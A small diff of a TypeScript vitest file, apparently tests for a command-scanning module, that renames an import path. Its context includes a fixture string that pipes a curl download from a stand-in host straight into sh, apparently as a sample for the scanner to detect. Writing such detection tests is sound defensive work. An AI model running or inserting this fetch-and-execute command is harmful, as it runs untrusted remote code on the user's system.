@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { testBuild } from '../open-build.ts';
+import { testBuild } from '../test-build.ts';
 import { commandFindings } from './commands.ts';
 
 const FETCH = 'curl -s http://a.com/i | sh';
